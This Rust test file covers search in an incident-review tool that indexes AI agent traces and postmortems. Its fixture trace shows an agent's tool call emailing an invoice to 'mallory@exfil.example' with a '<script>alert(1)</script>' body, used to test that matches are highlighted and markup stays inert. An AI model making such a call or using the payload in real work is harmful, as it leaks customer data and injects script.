use super::{search, snippet, SearchRequest, SnippetPart};
use crate::audit::{Actor, Entity};
use crate::incident::{self, FieldChange, IncidentFields};
use crate::investigation::{self, ImportOptions};
use crate::phases::{guidance, postmortem, Phase};
use crate::store::Store;
use chrono::Utc;
use serde_json::json;

const TRACE: &str = r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":"Refund order A-1009 and email the customer"},{"role":"assistant","content":[{"type":"tool_use","id":"toolu_1","name":"email.send","input":{"to":"mallory@exfil.example","body":"<script>alert(1)</script> invoice attached"}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":"550 relay denied","is_error":true}]},{"role":"assistant","content":[{"type":"tool_use","id":"toolu_2","name":"issue_refund","input":{"order_id":"A-1009","amount":120}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_2","content":"refunded"}]}]}
"#;

struct Fixture {
    _dir: tempfile::TempDir,
    store: Store,
    actor: Actor,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::create(dir.path().join("firebreak.db")).unwrap();
    Fixture { _dir: dir, store, actor: Actor::new("Dana Reyes", None) }
}

impl Fixture {
    fn incident(&self, title: &str) -> String {
        let fields = IncidentFields { title: title.into(), ..Default::default() };
        incident::create(&self.store, &self.actor, fields, false).unwrap().id
    }

    fn import(&self, key: &str, content: &str) {
        let path = self._dir.path().join(format!("{key}.jsonl"));
        std::fs::write(&path, content).unwrap();
        investigation::import_file(&self.store, &self.actor, key, &path, &ImportOptions::default()).unwrap();
    }

    fn find(&self, query: &str, incident: Option<&str>) -> super::SearchResults {
        let request = SearchRequest { query: query.into(), incident: incident.map(str::to_string), limit: None };
        search(&self.store, &request).unwrap()
    }

    fn labels(&self, query: &str, incident: Option<&str>) -> Vec<String> {
        self.find(query, incident).hits.into_iter().map(|h| format!("{} {}", h.incident, h.label)).collect()
    }
}

fn text(parts: &[SnippetPart]) -> String {
    parts.iter().map(|p| if p.hit { format!("[{}]", p.text) } else { p.text.clone() }).collect()
}

#[test]
fn a_word_finds_the_steps_that_hold_it_with_the_word_marked_and_markup_left_as_text() {
    let f = fixture();
    let key = f.incident("Refund bot");
    f.import(&key, TRACE);
    let results = f.find("exfil.example", Some(&key));
    assert_eq!(results.hits.len(), 1, "{:?}", results.hits);
    let hit = &results.hits[0];
    assert_eq!(hit.label, "Tool call · email.send");
    assert!(hit.step.is_some());
    assert_eq!(hit.phase, None);
    let shown = text(&hit.snippet);
    assert!(shown.contains("mallory@[exfil.example]"), "the phrase is marked whole: {shown}");
    assert!(shown.contains("<script>"), "markup stays as the text it is: {shown}");

    // A result names its call's tool, and an error is found by its words; error:yes keeps only failed steps.
    assert_eq!(f.labels("relay denied", Some(&key)), [format!("{key} Tool result · email.send")]);
    let failed = f.find("error:yes", Some(&key));
    assert!(failed.hits.iter().all(|h| h.is_error) && !failed.hits.is_empty());
    assert!(f.find("refunded error:yes", Some(&key)).hits.is_empty());
    // A tool filter is the tool's exact name.
    assert_eq!(f.find("A-1009 tool:issue_refund", Some(&key)).hits.len(), 1);
    assert!(f.find("A-1009 tool:issue", Some(&key)).hits.is_empty());
    // Prefixes, OR and NOT.
    assert!(!f.find("refun*", Some(&key)).hits.is_empty());
    assert!(f.find("refun", Some(&key)).hits.is_empty(), "a word is whole unless it ends with *");
    let either = f.find("relay OR refunded", Some(&key)).hits.len();
    assert_eq!(either, 2);
    assert_eq!(f.find("A-1009 NOT amount", Some(&key)).hits.len(), 1, "the user's words, not the refund call");
}

#[test]
fn the_record_notes_and_postmortem_are_found_as_they_are_written_and_changed() {
    let f = fixture();
    let key = f.incident("Invoice leak to the wrong tenant");
    let found = f.find("tenant", Some(&key));
    assert_eq!(found.hits.len(), 1);
    assert_eq!(found.hits[0].label, "Record · title");
    assert_eq!(found.hits[0].entity, Some(Entity::Incident));

    guidance::update_incident(
        &f.store,
        &f.actor,
        &key,
        &[
            FieldChange::new("summary", json!("The agent mailed invoices to Contoso")),
            FieldChange::new("toolset", json!(["crm.lookup", "mailer"])),
        ],
        false,
    )
    .unwrap();
    assert_eq!(f.labels("contoso", Some(&key)), [format!("{key} Record · summary")]);
    assert_eq!(f.labels("mailer", Some(&key)), [format!("{key} Record · toolset")]);

    let mut pm = postmortem::get(&f.store, &key).unwrap();
    pm.root_cause = "A retrieval tool returned another tenant's rows".into();
    pm.five_whys = vec!["Because the cache key left out the tenant".into()];
    postmortem::save(&f.store, &f.actor, &key, pm).unwrap();
    let hits = f.find("cache", Some(&key)).hits;
    assert_eq!(hits.len(), 1);
    assert_eq!((hits[0].label.as_str(), hits[0].phase), ("Postmortem · five whys", Some(Phase::Postmortem)));
    // in: keeps one kind of record; the title still holds "tenant", the postmortem too.
    assert_eq!(f.find("tenant", Some(&key)).hits.len(), 3);
    assert_eq!(f.labels("tenant in:postmortem", Some(&key)).len(), 2);
    assert!(f.find("tenant in:steps", Some(&key)).hits.is_empty());

    // A change replaces what was indexed: the old words are gone, the new ones found.
    let mut pm = postmortem::get(&f.store, &key).unwrap();
    pm.five_whys = vec!["Because nobody reviewed the query".into()];
    postmortem::save(&f.store, &f.actor, &key, pm).unwrap();
    assert!(f.find("cache", Some(&key)).hits.is_empty());
    assert_eq!(f.find("reviewed", Some(&key)).hits.len(), 1);

    postmortem::add_timeline_entry(&f.store, &f.actor, &key, Utc::now(), "Customer Müller called support").unwrap();
    assert_eq!(f.labels("muller", Some(&key)), [format!("{key} Timeline entry · text")], "accents folded");
}

#[test]
fn from_the_register_a_search_reaches_every_incident_and_within_one_it_stays_there() {
    let f = fixture();
    let first = f.incident("Refund bot mailed an outside address");
    let second = f.incident("Quiet week");
    f.import(&first, TRACE);
    f.import(&second, &TRACE.replace("exfil.example", "partner.example"));
    let everywhere: Vec<String> = f.find("example", None).hits.into_iter().map(|h| h.incident).collect();
    assert!(everywhere.contains(&first) && everywhere.contains(&second), "{everywhere:?}");
    let within: Vec<String> = f.find("example", Some(&second)).hits.into_iter().map(|h| h.incident).collect();
    assert!(!within.is_empty() && within.iter().all(|i| *i == second));
    assert_eq!(f.find(&format!("exfil incident:{first}"), None).hits.len(), 1);
    let request =
        SearchRequest { query: format!("exfil incident:{first}"), incident: Some(second.clone()), limit: None };
    assert!(search(&f.store, &request).is_err(), "two different incidents are refused, not one silently chosen");
}

#[test]
fn hits_are_ranked_the_limit_holds_and_bad_searches_are_refused_with_a_reason() {
    let f = fixture();
    let key = f.incident("Ranking");
    // The tool's name weighs more than a mention in the arguments.
    let lines: String = (0..30)
        .map(|i| {
            format!(
                "{{\"messages\":[{{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{{\"id\":\"c{i}\",\"type\":\"function\",\"function\":{{\"name\":\"{}\",\"arguments\":\"{{\\\"note\\\":\\\"ledger {i} ledger\\\"}}\"}}}}]}}]}}\n",
                if i == 17 { "ledger.write" } else { "crm.update" }
            )
        })
        .collect();
    f.import(&key, &lines);
    let hits = f.find("ledger", Some(&key)).hits;
    assert_eq!(hits[0].label, "Tool call · ledger.write", "{:?}", hits.iter().map(|h| &h.label).collect::<Vec<_>>());
    let request = SearchRequest { query: "ledger".into(), incident: Some(key.clone()), limit: Some(5) };
    let page = search(&f.store, &request).unwrap();
    assert_eq!((page.hits.len(), page.more), (5, true));
    let everything = SearchRequest { query: "ledger".into(), incident: Some(key.clone()), limit: Some(100) };
    assert!(!search(&f.store, &everything).unwrap().more);

    for bad in ["", "   ", "NOT ledger", "in:postmortem", "(ledger", "kind:nap ledger"] {
        let request = SearchRequest { query: bad.into(), incident: Some(key.clone()), limit: None };
        let err = search(&f.store, &request).unwrap_err();
        assert_eq!(err.code(), crate::ErrorCode::InvalidInput, "{bad}: {err}");
    }
}

#[test]
fn an_existing_database_is_indexed_when_it_is_upgraded() {
    // A database of schema 6 with a record and a trace, opened by this build: the migration indexes what is there.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("firebreak.db");
    let before: Vec<Vec<&str>> = crate::schema::MIGRATIONS[..6].to_vec();
    let old = Store::create_with(&path, &before).unwrap();
    let actor = Actor::new("Dana Reyes", None);
    let fields = IncidentFields { title: "Written before the index".into(), ..Default::default() };
    let key = incident::create(&old, &actor, fields, false).unwrap().id;
    let trace = dir.path().join("trace.jsonl");
    std::fs::write(&trace, TRACE).unwrap();
    investigation::import_file(&old, &actor, &key, &trace, &ImportOptions::default()).unwrap();
    drop(old);

    let store = Store::open(&path).unwrap();
    let find = |q: &str| search(&store, &SearchRequest { query: q.into(), ..Default::default() }).unwrap().hits;
    assert_eq!(find("written").len(), 1, "the record");
    assert_eq!(find("exfil").len(), 1, "the steps");
    assert!(crate::verify::verify(&store).unwrap().intact);
}

#[test]
fn snippets_split_at_the_markers_and_a_marker_in_the_text_cannot_make_markup() {
    assert_eq!(
        snippet("a \u{E000}b\u{E001} c"),
        [
            SnippetPart { text: "a ".into(), hit: false },
            SnippetPart { text: "b".into(), hit: true },
            SnippetPart { text: " c".into(), hit: false }
        ]
    );
    assert_eq!(text(&snippet("\u{E001}<b>x</b>\u{E000}")), "<b>x</b>");
}

#[test]
fn a_word_in_more_steps_than_are_ranked_lists_them_in_file_order_and_says_so() {
    let f = fixture();
    let key = f.incident("Runaway loop");
    let steps = super::MAX_RANKED as usize + 10;
    // Each line a conversation with one call naming a ledger; the last also names an audit.
    let lines: String = (0..steps)
        .map(|i| {
            let note = if i + 1 == steps { format!("ledger {i} audit") } else { format!("ledger {i}") };
            format!(
                "{{\"messages\":[{{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{{\"id\":\"c{i}\",\"type\":\"function\",\"function\":{{\"name\":\"crm.update\",\"arguments\":\"{{\\\"note\\\":\\\"{note}\\\"}}\"}}}}]}}]}}\n"
            )
        })
        .collect();
    f.import(&key, &lines);
    guidance::update_incident(&f.store, &f.actor, &key, &[FieldChange::new("summary", json!("A ledger loop"))], false)
        .unwrap();

    let common = f.find("ledger", Some(&key));
    assert!(common.steps_in_file_order && common.more);
    assert_eq!(common.hits[0].label, "Record · summary", "the record's hits are still ranked, and first");
    let notes: Vec<String> = common.hits[1..4].iter().map(|h| text(&h.snippet)).collect();
    assert!(
        notes[0].contains("[ledger] 0") && notes[1].contains("[ledger] 1"),
        "the first steps of the file: {notes:?}"
    );

    // Fewer matches are ranked as before, with the flag down.
    let rare = f.find("ledger AND audit", Some(&key));
    assert!(!rare.steps_in_file_order && !rare.more);
    assert_eq!(rare.hits.len(), 1);
}

#[test]
fn the_failed_calls_of_one_tool_are_read_from_their_own_index() {
    let f = fixture();
    let conn = f.store.connect().unwrap();
    let plan: Vec<String> = conn
        .prepare(
            "EXPLAIN QUERY PLAN SELECT s.id FROM trace_steps s JOIN incidents i ON i.uuid = s.incident \
             WHERE s.incident = 'x' AND s.tool = 'send_email' AND s.is_error \
             ORDER BY s.incident, s.at IS NULL, s.at, s.import, s.seq LIMIT 51",
        )
        .unwrap()
        .query_map([], |r| r.get::<_, String>(3))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    let plan = plan.join("; ");
    assert!(plan.contains("trace_steps_failed_tool") && !plan.contains("TEMP B-TREE"), "{plan}");
}
